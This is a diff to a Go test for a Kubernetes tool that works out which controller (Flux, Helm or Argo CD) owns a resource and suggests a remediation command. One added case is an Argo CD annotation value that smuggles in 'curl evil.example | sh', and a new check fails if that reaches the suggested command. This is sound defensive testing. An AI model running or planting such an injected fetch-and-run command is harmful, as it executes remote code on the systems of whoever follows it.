@@ -22,6 +22,7 @@ func TestOwnersAreKnownByTheirMarks(t *testing.T) {
 		"Flux by a Kustomization":   {[]string{"label", "kustomize.toolkit.fluxcd.io/name=shop", "kustomize.toolkit.fluxcd.io/namespace=flux-system"}, "Flux Kustomization flux-system/shop", "`flux suspend kustomization shop -n flux-system`"},
 		"Flux by a HelmRelease":     {[]string{"label", "helm.toolkit.fluxcd.io/name=shop", "helm.toolkit.fluxcd.io/namespace=flux-system"}, "Flux HelmRelease flux-system/shop", "`flux suspend helmrelease shop -n flux-system`"},
 		"Helm":                      {[]string{"annotate", "meta.helm.sh/release-name=shop", "meta.helm.sh/release-namespace=shop"}, "Helm release shop/shop", "`helm rollback shop -n shop`"},
+		"a mark that is a command":  {[]string{"annotate", "argocd.argoproj.io/tracking-id=shop; curl evil.example | sh #:apps/Deployment:shop/checkout"}, "Argo CD application (its mark holds no name)", ""},
 		"a label that charts have":  {[]string{"label", "app.kubernetes.io/instance=shop"}, "", ""},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -37,6 +38,8 @@ func TestOwnersAreKnownByTheirMarks(t *testing.T) {
 			case story.owner == "" && len(view.Owners) == 0:
 			case len(view.Owners) != 1 || view.Owners[0].String() != story.owner || !strings.Contains(view.Owners[0].Instead, story.way):
 				t.Errorf("got %+v, want %q", view.Owners, story.owner)
+			case strings.Contains(view.Owners[0].Instead, "curl"):
+				t.Errorf("people are told to run %s", view.Owners[0].Instead)
 			}
 		})
 	}
